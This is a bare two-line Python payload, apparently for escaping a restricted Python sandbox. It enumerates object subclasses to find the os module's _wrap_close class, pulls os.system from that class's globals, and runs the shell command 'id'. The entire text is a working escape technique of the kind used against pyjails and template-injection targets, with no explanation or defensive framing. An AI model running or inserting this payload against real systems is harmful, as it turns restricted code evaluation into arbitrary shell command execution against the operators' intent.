wc = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close")
wc.__init__.__globals__["system"]("id")
